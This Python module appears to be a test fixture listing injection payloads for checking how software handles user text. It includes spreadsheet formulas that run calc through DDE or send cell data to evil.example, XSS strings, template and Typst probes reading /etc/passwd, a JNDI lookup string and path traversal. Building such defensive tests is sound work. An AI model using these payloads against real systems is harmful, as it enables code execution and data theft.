"""What people type who want more than to be read."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    '=HYPERLINK("https://evil.example?"&A1,"here")', '=WEBSERVICE("https://evil.example")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")", "{=1+1}", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u200b=1+1",
    "\ufeff=1+1", "\x00=1+1", "'=1+1", "https://evil.example", "mailto:a@evil.example", "file://server/share",
    "internal:About!A1", "=Sheet1!A1",
)  # fmt: skip
MARKUP = (
    "<script>window.hit = 1</script>", "</script><script>window.hit = 1</script>", "<!--", "--><img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>", "<svg xmlns='http://www.w3.org/2000/svg'><script>window.hit=1</script></svg>",
    "\"><img src=x onerror=window.hit=1>", "' onmouseover='window.hit=1", "javascript:window.hit=1",
    "<a href=\"javascript:window.hit=1\">here</a>", "<a href='https://evil.example'>here</a>", "]]><b>bold</b>",
    "{{ 7 * 7 }}", "{% raw %}", "{{ paper.__class__ }}", "%{x} %{fullData.name} %{meta}", "<b>bold</b><br>", "&lt;b&gt;", "&amp;",
    "</style><style>*{display:none}</style>", "<iframe src=//evil.example></iframe>",
)  # fmt: skip
TYPESET = (
    '#eval("1 + 1")', '#read("/etc/passwd")', "#include \"x.typ\"", '#image("/etc/passwd")', "#link(\"https://evil.example\")[x]",
    "$sum_(i=0)^n i$", "#{", "]", "#set page(fill: red)", "= Heading", "*bold* _soft_ `code`", "<label> @label",
    "\\u{41} \\ \\n", "#sys.inputs", "[#panic()]", "\\begin{document}", "${jndi:ldap://evil.example}",
)  # fmt: skip
EXPRESSIONS = (
    "datum.x", "datum['s']", "signal", "{\"signal\": \"1+1\"}", "{\"expr\": \"1+1\"}", "width + height", "a.b[0]", "a\\.b",
    "constructor", "__proto__", "toString", "hasOwnProperty", "2026-11-24", "1e5", "null", "NaN", "true",
)  # fmt: skip
SIGNS = (
    "\u202eevil\u202c", "\u200f\u05e9\u05dc\u05d5\u05dd", "zero\u200bwidth\u200d", "bell\x07 escape\x1b[31m", "tab\there",
    "null\x00byte", "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467", "combining e\u0301\u0301\u0301", "\ufffe\uffff",
    "quote \" comma , semi ; line\nfeed\r\nend", "W" * 400, "word " * 2_000, "x" * 40_000, "\U0001f600" * 20_000,
    "日本語のとても長い文字列" * 40, "\u2028line\u2029", "'apostrophe'", "%s %d %n", "../../etc/passwd", "",
)  # fmt: skip
PAYLOADS = (*FORMULAS, *MARKUP, *TYPESET, *EXPRESSIONS, *SIGNS)
